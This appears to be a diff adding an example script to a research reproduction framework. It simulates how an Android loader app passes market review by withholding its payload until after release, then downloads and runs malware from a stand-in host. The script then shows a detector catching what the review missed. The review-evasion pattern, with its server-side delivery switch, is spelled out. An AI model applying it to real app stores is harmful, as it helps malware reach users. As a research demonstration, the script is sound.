@@ -1,0 +1,187 @@
+"""The App_L / App_M experiment: evading market review with remote DCL.
+
+The paper (Section III-B(a)) built a malicious app ``App_M`` (rejected by
+Google Bouncer), then a loader app ``App_L`` that fetches ``App_M``'s
+payload from a server *whose operator decides whether to serve it*.  With
+delivery disabled during review, App_L sailed through and was published.
+
+This script reproduces the whole episode against a simulated market:
+
+1. the market's review (static DroidNative scan + a time-boxed dynamic run)
+   rejects App_M outright;
+2. the same review approves App_L, because during review the server returns
+   404 for the payload;
+3. after "release", delivery is switched on: an end-user device runs App_L
+   and the Swiss-code-monkeys payload executes and exfiltrates identifiers;
+4. DyDroid's interception + download tracker catches what the market
+   missed: a remotely fetched, malicious, third-party-loaded binary.
+
+Run:  python examples/bouncer_evasion.py
+"""
+
+from repro.android.apk import Apk
+from repro.android.builders import MethodBuilder, class_builder
+from repro.android.dex import DexFile
+from repro.android.manifest import (
+    INTERNET,
+    WRITE_EXTERNAL_STORAGE,
+    AndroidManifest,
+    Component,
+    ComponentKind,
+)
+from repro.corpus.behaviors import emit_download_to_file, emit_dex_load
+from repro.dynamic.engine import AppExecutionEngine, DynamicOutcome, EngineOptions
+from repro.runtime.network import RemoteServer
+from repro.static_analysis.malware.droidnative import DroidNative
+from repro.static_analysis.malware.families import (
+    SWISS_CODE_MONKEYS,
+    swiss_code_monkeys_dex,
+    training_corpus,
+)
+
+PAYLOAD_URL = "http://apps-cdn.evil-labs.example/feature_pack.jar"
+SERVER_HOST = "apps-cdn.evil-labs.example"
+SERVER_PATH = "/feature_pack.jar"
+
+
+def build_app_m() -> Apk:
+    """App_M: the malware packaged directly into the APK."""
+    payload = swiss_code_monkeys_dex(seed=2024)
+    service_class = payload.classes[0].name
+    package = "com.evil.labs.appm"
+    activity = "{}.MainActivity".format(package)
+    cls = class_builder(activity, superclass="android.app.Activity")
+    builder = MethodBuilder("onCreate", activity, arity=1)
+    builder.call_void(service_class, "onStart", builder.arg(0))
+    builder.ret_void()
+    cls.add_method(builder.build())
+    host = DexFile(classes=[cls])
+    host.merge(payload)
+    manifest = AndroidManifest(
+        package=package,
+        permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
+        components=[Component(ComponentKind.ACTIVITY, activity, True)],
+    )
+    return Apk.build(manifest, dex_files=[host])
+
+
+def build_app_l() -> Apk:
+    """App_L: downloads the payload at runtime, if the server provides it."""
+    package = "com.evil.labs.appl"
+    activity = "{}.MainActivity".format(package)
+    dest = "/data/data/{}/files/feature_pack.jar".format(package)
+    payload_entry = swiss_code_monkeys_dex(seed=2024).classes[0].name
+
+    cls = class_builder(activity, superclass="android.app.Activity")
+    builder = MethodBuilder("onCreate", activity, arity=1)
+    emit_download_to_file(builder, PAYLOAD_URL, dest)
+    emit_dex_load(
+        builder,
+        dest,
+        "/data/data/{}/cache/odex".format(package),
+        entry_class=payload_entry,
+        entry_method="onStart",
+    )
+    builder.ret_void()
+    cls.add_method(builder.build())
+    manifest = AndroidManifest(
+        package=package,
+        permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
+        components=[Component(ComponentKind.ACTIVITY, activity, True)],
+    )
+    return Apk.build(manifest, dex_files=[DexFile(classes=[cls])])
+
+
+class MarketReview:
+    """A Bouncer-like review: static scan plus a sandboxed dynamic run."""
+
+    def __init__(self) -> None:
+        self.detector = DroidNative()
+        self.detector.train_corpus(training_corpus(samples_per_family=3, seed=0))
+
+    def review(self, apk: Apk, remote_resources=None) -> str:
+        # Static scan of every packaged DEX.
+        for dex in apk.dex_files():
+            detection = self.detector.detect(dex)
+            if detection is not None:
+                return "REJECTED (static scan: {})".format(detection)
+        # Sandboxed dynamic run with interception.
+        engine = AppExecutionEngine(EngineOptions(remote_resources=remote_resources or {}))
+        report = engine.run(apk)
+        for payload in report.intercepted:
+            binary = payload.as_dex() or payload.as_native()
+            if binary is not None and self.detector.detect(binary) is not None:
+                return "REJECTED (dynamic scan caught loaded malware)"
+        if report.outcome is DynamicOutcome.CRASH:
+            pass  # review tolerates crashes from unreachable CDNs
+        return "APPROVED"
+
+
+def main() -> None:
+    market = MarketReview()
+    payload_bytes = swiss_code_monkeys_dex(seed=2024).to_bytes()
+
+    def payload_resource(server: RemoteServer, path: str):
+        return payload_bytes if server.flags.get("serve_malware") else None
+
+    print("== 1. App_M (malware packaged statically) submitted for review ==")
+    app_m = build_app_m()
+    verdict = market.review(app_m)
+    print("   market verdict:", verdict)
+    assert verdict.startswith("REJECTED")
+
+    print()
+    print("== 2. App_L (remote loader) submitted; server delivery DISABLED ==")
+    app_l = build_app_l()
+    # The server-side switchboard: payload only when serve_malware is set.
+    verdict = market.review(app_l, remote_resources={PAYLOAD_URL: payload_resource})
+    print("   market verdict:", verdict)
+    assert verdict == "APPROVED"
+
+    print()
+    print("== 3. Post-release: delivery ENABLED; an end user runs App_L ==")
+    from repro.corpus.behaviors import extract_url_constants
+
+    # The attacker's C2 endpoints are live in the wild; host them so the
+    # payload's beacon/command loop runs instead of dying on a 404.
+    live_world = {PAYLOAD_URL: payload_bytes}
+    for url in extract_url_constants(swiss_code_monkeys_dex(seed=2024)):
+        live_world.setdefault(url, b"\x01")  # command byte: install app
+    user_engine = AppExecutionEngine(EngineOptions(remote_resources=live_world))
+    user_report = user_engine.run(app_l)
+    print("   outcome: {}, intercepted {} payload(s)".format(
+        user_report.outcome.value, len(user_report.intercepted)))
+    print("   exfiltration log:", user_report.exfiltrated)
+    assert user_report.intercepted
+
+    print()
+    print("== 4. Even a multi-engine AV scan of the payload comes back clean ==")
+    from repro.baselines.virustotal import VirusTotalScanner
+
+    scanner = VirusTotalScanner()
+    for known_seed in range(8):  # AV vendors know *other* family samples
+        scanner.submit_known_sample("scm", swiss_code_monkeys_dex(seed=known_seed))
+    payload = user_report.intercepted[0]
+    scan = scanner.scan(payload.as_dex())
+    print("   signature-scan detection ratio: {} (variant evades)".format(scan.detection_ratio))
+    assert not scan.is_detected
+
+    print()
+    print("== 5. DyDroid's verdict on the very same run ==")
+    detection = market.detector.detect(payload.as_dex())
+    remote = user_report.tracker.is_remote(payload.path)
+    sources = user_report.tracker.remote_sources(payload.path)
+    print("   loaded file:      ", payload.path)
+    print("   call site:        ", payload.call_site)
+    print("   provenance:       ", "REMOTE" if remote else "LOCAL", sources)
+    print("   DroidNative:      ", detection)
+    assert detection is not None and detection.family == SWISS_CODE_MONKEYS
+    assert remote
+    print()
+    print("Remote DCL let the app change behaviour after review -- exactly the")
+    print("content-policy violation DyDroid measures (Table V) and the threat")
+    print("model behind its malware findings (Table VII).")
+
+
+if __name__ == "__main__":
+    main()
